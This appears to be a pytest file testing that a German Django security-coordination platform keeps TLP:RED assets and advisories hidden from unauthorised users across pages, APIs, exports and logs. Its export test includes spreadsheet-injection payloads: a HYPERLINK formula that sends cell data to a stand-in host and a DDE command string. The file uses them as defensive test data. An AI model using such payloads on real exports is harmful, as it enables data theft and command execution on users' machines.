"""Probes (issue 12): users nobody tuned for, looking for TLP objects where they should not be.

The world is the one of :mod:`.test_tlp_leaks` (alliances A and B, group G, outsider, coordinator,
Beratungsstelle, Plattformbetrieb, a former employee); on top of it a TLP:RED asset and a TLP:RED
advisory of body a1, created by a1's clerk and named to b2's clerk only. a1's head works for the same
body but is *not* named: for RED he is an outsider like everyone else (policies module doc).

Each defect the probe found has its test here and is fixed.
"""

from __future__ import annotations

import datetime as dt
import io
from types import SimpleNamespace
from typing import Any

import pytest
from django.test import Client

from verbund.alliances.models import Membership
from verbund.registry.tests.factories import BodyFactory
from verbund.security.models import Advisory, Asset, Match, Vulnerability
from verbund.security.tests.test_csaf_validation import sample_advisory
from verbund.security.tests.test_tlp_leaks import NOW, build_world, sharing

pytestmark = pytest.mark.django_db

SECRET_ASSET = "Geheimfirewall-Rot"
SECRET_ADVISORY = "Roter Geheimhinweis"


def _public_advisory(n: int = 1) -> Advisory:
    return Advisory.objects.create(
        publisher_name="Testherausgeber",
        publisher_namespace="https://example.org",
        tracking_id=f"PUB-{n}",
        title=f"Öffentlicher Hinweis {n}",
        category="csaf_security_advisory",
        version="1",
        tracking_status="final",
        initial_release_date=NOW,
        current_release_date=NOW,
        tlp="clear",
        distribution="all",
    )


def _match(advisory: Advisory, asset: Asset) -> Match:
    vulnerability, _ = Vulnerability.objects.get_or_create(advisory=advisory, key="CVE-2026-0002", position=0)
    return Match.objects.create(
        advisory=advisory,
        vulnerability=vulnerability,
        asset=asset,
        product_id="CSAFPID-1",
        status="known_affected",
        confidence="high",
        reason="Test",
    )


@pytest.fixture
def world(db: Any) -> SimpleNamespace:
    w = build_world()
    w.red_asset = Asset.objects.create(
        name=SECRET_ASSET, vendor="Rotwerk", version="9.9", **sharing(w, "red", "organisation", False)
    )
    w.red_asset.recipients.set([w.b2_clerk])
    w.public = _public_advisory()
    w.red_match = _match(w.public, w.red_asset)
    return w


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- RED asset of the own body, seen by a colleague who is not named -------------------------------


def test_the_named_people_see_the_red_asset_and_the_unnamed_head_does_not(world: SimpleNamespace) -> None:
    """Baseline for the probes below: detail page and API list agree with the RED rule."""
    url = f"/sicherheit/komponenten/{world.red_asset.pk}/"
    assert _client(world.a1_clerk).get(url).status_code == 200
    assert _client(world.b2_clerk).get(url).status_code == 200
    assert _client(world.a1_head).get(url).status_code == 404
    body = _client(world.a1_head).get("/api/v1/security/assets?limit=500").json()
    assert world.red_asset.pk not in {item["id"] for item in body["items"]}


def test_the_incident_form_does_not_offer_a_red_asset_to_an_unnamed_colleague(world: SimpleNamespace) -> None:
    page = _client(world.a1_head).get("/sicherheit/vorfaelle/neu/")
    assert page.status_code == 200
    assert SECRET_ASSET not in page.content.decode()


def test_an_unnamed_colleague_cannot_attach_a_red_asset_to_an_incident(world: SimpleNamespace) -> None:
    from verbund.security.models import Incident

    now = dt.datetime.now(dt.UTC).replace(microsecond=0)
    data = {
        "owner_body": world.a1.pk,
        "title": "Störung",
        "description": "",
        "started_at": (now - dt.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"),
        "detected_at": (now - dt.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
        "status": "offen",
        "assets": [world.red_asset.pk],
        "tlp": "amber",
        "distribution": "alliance",
        "alliance": world.alliance_a.pk,
    }
    _client(world.a1_head).post("/sicherheit/vorfaelle/neu/", data)
    assert not Incident.objects.filter(assets=world.red_asset).exists()


def test_a_match_alert_about_a_red_asset_reaches_only_who_sees_the_asset(world: SimpleNamespace) -> None:
    from verbund.notifications.models import Event
    from verbund.security import events
    from verbund.security.services.matching import MATCH_ACTOR

    events.matches_alerted(actor=MATCH_ACTOR, matches=[world.red_match])
    audience: set[int] = set()
    for event in Event.objects.filter(payload__advisory=world.public.pk):
        audience |= set(event.audience.get("users", []))
    assert world.a1_head.pk not in audience


def test_the_triage_page_does_not_count_a_member_affected_only_by_a_red_asset(world: SimpleNamespace) -> None:
    coordinator = _client(world.coordinator)
    response = coordinator.get(f"/sicherheit/verbund/{world.alliance_a.slug}/bewerten/{world.public.pk}/")
    assert response.status_code == 200
    assert response.context["affected"] == 0


def test_the_alliance_view_does_not_count_the_red_asset_for_the_coordinator(world: SimpleNamespace) -> None:
    response = _client(world.coordinator).get(f"/sicherheit/verbund/{world.alliance_a.slug}/")
    assert response.status_code == 200
    picture = response.context["picture"]
    assert sum(m.matches for m in picture.members) == 0
    assert SECRET_ASSET not in response.content.decode()


def test_the_read_log_does_not_name_a_red_asset_or_advisory(world: SimpleNamespace) -> None:
    red_advisory = Advisory.objects.create(
        publisher_name="Testherausgeber",
        publisher_namespace="https://example.org",
        tracking_id="ROT-1",
        title=SECRET_ADVISORY,
        category="csaf_security_advisory",
        version="1",
        tracking_status="final",
        initial_release_date=NOW,
        current_release_date=NOW,
        **sharing(world, "red", "organisation", False),
    )
    red_advisory.recipients.set([world.b2_clerk])
    clerk = _client(world.a1_clerk)
    assert clerk.get(f"/sicherheit/komponenten/{world.red_asset.pk}/").status_code == 200
    assert clerk.get(f"/sicherheit/hinweise/{red_advisory.pk}/").status_code == 200
    page = _client(world.operator).get("/protokoll/lesezugriffe/")
    assert page.status_code == 200
    text = page.content.decode()
    assert SECRET_ASSET not in text and SECRET_ADVISORY not in text


# --- re-importing a document that a colleague holds as TLP:RED -------------------------------------


def _red_import(world: SimpleNamespace) -> Advisory:
    from verbund.security.services.advisories import import_advisory

    result = import_advisory(world.a1_clerk, sample_advisory(), tlp="red", owner_body=world.a1)
    advisory = result.advisory
    # named: a member of the same alliance (a recipient the sharing rule accepts), not a1's head
    advisory.recipients.set([world.a2_clerk])
    return advisory


def _upload(client: Client, document: dict[str, Any], **fields: Any) -> Any:
    import json

    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("ex.json", json.dumps(document).encode(), content_type="application/json")
    return client.post("/api/v1/security/advisories", {"document": upload, **fields})


def test_importing_a_known_document_does_not_reveal_a_red_advisory(world: SimpleNamespace) -> None:
    red = _red_import(world)
    response = _upload(_client(world.a1_head), sample_advisory(), owner_body=world.a1.pk)
    assert response.status_code in (200, 201, 404, 409, 422), response.content
    if response.status_code in (200, 201):
        assert response.json()["advisory"]["id"] != red.pk


def test_a_newer_revision_by_an_unnamed_colleague_does_not_change_a_red_advisory(
    world: SimpleNamespace,
) -> None:
    from verbund.security.tests.test_import_csaf import revised

    red = _red_import(world)
    _upload(_client(world.a1_head), revised(sample_advisory(), "3"), owner_body=world.a1.pk)
    red.refresh_from_db()
    assert red.version == "2"


# --- XLSX export ------------------------------------------------------------------------------------


def test_the_xlsx_export_does_not_write_formulas(world: SimpleNamespace) -> None:
    from openpyxl import load_workbook

    Asset.objects.create(
        name='=HYPERLINK("http://evil.example/?"&A1,"Klick")',
        vendor="+cmd|' /C calc'!A0",
        **sharing(world, "green", "alliance", False),
    )
    response = _client(world.a1_clerk).get("/sicherheit/komponenten/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    assert "f" not in kinds


def test_the_csv_export_escapes_formulas(world: SimpleNamespace) -> None:
    Asset.objects.create(name="=1+1", vendor="@SUM(A1)", **sharing(world, "green", "alliance", False))
    text = _client(world.a1_clerk).get("/sicherheit/komponenten/export.csv").content.decode("utf-8-sig")
    assert "\n=1+1" not in text and "\n'=1+1" in text
    assert "'@SUM(A1)" in text


def test_the_exports_hold_no_red_asset_for_an_unnamed_colleague(world: SimpleNamespace) -> None:
    head = _client(world.a1_head)
    csv_text = head.get("/sicherheit/komponenten/export.csv?ausser_betrieb=1").content.decode("utf-8-sig")
    assert SECRET_ASSET not in csv_text
    assert SECRET_ASSET.encode() not in head.get("/sicherheit/komponenten/export.xlsx").content
    page = head.get(f"/sicherheit/komponenten/?q={SECRET_ASSET[:8]}&ausser_betrieb=1")
    assert world.red_asset not in list(page.context["page"].object_list)
    assert f"/sicherheit/komponenten/{world.red_asset.pk}/" not in page.content.decode()


# --- a body whose alliance membership ended -------------------------------------------------------


def test_a_former_member_body_loses_the_alliance_view_and_alliance_objects(world: SimpleNamespace) -> None:
    from verbund.security.models import Incident

    shared = Incident.objects.create(
        title="Verbundvorfall", started_at=NOW, detected_at=NOW, **sharing(world, "amber", "alliance", False)
    )
    a2 = _client(world.a2_clerk)
    assert a2.get(f"/sicherheit/vorfaelle/{shared.pk}/").status_code == 200
    Membership.objects.filter(alliance=world.alliance_a, body=world.a2).update(
        left_on=dt.datetime.now(dt.UTC).date() - dt.timedelta(days=1)
    )
    assert a2.get(f"/sicherheit/vorfaelle/{shared.pk}/").status_code == 404
    assert a2.get(f"/sicherheit/verbund/{world.alliance_a.slug}/").status_code == 404
    items = a2.get("/api/v1/security/incidents?limit=500").json()["items"]
    assert shared.pk not in {i["id"] for i in items}


# --- anonymous visitors ---------------------------------------------------------------------------


def test_an_anonymous_visitor_is_sent_to_the_login(world: SimpleNamespace) -> None:
    anonymous = Client()
    for url in (
        "/sicherheit/",
        "/sicherheit/hinweise/",
        "/sicherheit/komponenten/",
        "/sicherheit/komponenten/export.csv",
        "/sicherheit/vorfaelle/",
        "/sicherheit/treffer/",
        f"/sicherheit/komponenten/{world.red_asset.pk}/",
    ):
        response = anonymous.get(url)
        assert response.status_code == 302, url
        assert SECRET_ASSET not in response.content.decode()
    for url in ("/api/v1/security/advisories", "/api/v1/security/incidents", "/api/v1/security/officers"):
        assert anonymous.get(url).status_code == 401, url


def test_the_asset_and_match_api_answer_401_to_an_anonymous_caller(world: SimpleNamespace) -> None:
    anonymous = Client()
    for url in (
        "/api/v1/security/assets",
        "/api/v1/security/matches",
        f"/api/v1/security/assets/{world.red_asset.pk}",
        f"/api/v1/security/matches/{world.red_match.pk}",
    ):
        assert anonymous.get(url).status_code == 401, url


# --- the Beratungsstelle and Plattformbetrieb -----------------------------------------------------


def test_office_and_operator_lists_hold_no_member_objects(world: SimpleNamespace) -> None:
    for who in ("advisory", "operator", "outsider"):
        client = _client(getattr(world, who))
        for url in ("/api/v1/security/assets", "/api/v1/security/matches"):
            assert client.get(url).json()["count"] == 0, (who, url)
        assert SECRET_ASSET not in client.get("/sicherheit/treffer/?alle=1").content.decode()


def test_an_extra_body_in_no_alliance_does_not_open_any_alliance_view(world: SimpleNamespace) -> None:
    other = BodyFactory.create(verbandsgemeinde=True)
    from verbund.accounts.tests.factories import UserFactory

    clerk = _client(UserFactory.create(staff_of=other))
    assert clerk.get(f"/sicherheit/verbund/{world.alliance_a.slug}/").status_code == 404
    assert clerk.get(f"/sicherheit/wiba/verbund/{world.alliance_a.slug}/").status_code == 404


# --- WiBA progress across the alliance ----------------------------------------------------------------


@pytest.mark.parametrize("tlp", ["red", "amber+strict"])
def test_the_alliance_wiba_progress_leaves_out_assessments_the_viewer_may_not_read(
    world: SimpleNamespace, tlp: str
) -> None:
    from verbund.security.models import WibaAnswer, WibaAssessment, WibaChecklist, WibaQuestion

    checklist = WibaChecklist.objects.create(topic="Backup", number="1")
    question = WibaQuestion.objects.create(checklist=checklist, position=1, text="Gibt es ein Backup?")
    assessment = WibaAssessment.objects.create(
        checklist=checklist, **sharing(world, tlp, "organisation", False)
    )
    WibaAnswer.objects.create(assessment=assessment, question=question, value="nein")
    a2 = _client(world.a2_clerk)
    assert a2.get(f"/sicherheit/wiba/bearbeitungen/{assessment.pk}/").status_code == 404
    response = a2.get(f"/sicherheit/wiba/verbund/{world.alliance_a.slug}/")
    assert response.status_code == 200
    cells = response.context["progress"].cells
    assert (world.a1.pk, checklist.pk) not in cells
    api = a2.get(f"/api/v1/security/wiba/alliances/{world.alliance_a.slug}/progress")
    assert api.status_code == 200
    assert '"no": 1' not in api.content.decode().replace('"no":1', '"no": 1')


# --- the triage's own TLP ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "tlp",
    [
        "amber+strict",
        "red",
    ],
)
def test_a_strict_triage_is_refused_or_stays_visible_to_the_triager(world: SimpleNamespace, tlp: str) -> None:
    from verbund.security.models import Triage

    coordinator = Client(raise_request_exception=False)
    coordinator.force_login(world.coordinator)
    url = f"/sicherheit/verbund/{world.alliance_a.slug}/bewerten/{world.public.pk}/"
    response = coordinator.post(
        url,
        {
            "exploitation": "active",
            "automatable": "ja",
            "technical_impact": "total",
            "mission_impact": "high",
            "tlp": tlp,
        },
    )
    assert response.status_code in (200, 302), response.status_code
    if response.status_code == 200:  # refused: the form names the field
        assert response.context["form"].errors, "re-rendered without an error"
    triage = Triage.objects.filter(advisory=world.public, alliance=world.alliance_a).first()
    if triage is not None:  # stored: its author must still find it
        from verbund.accounts.principal import principal_for
        from verbund.security import policies

        assert policies.sees(principal_for(world.coordinator), triage)
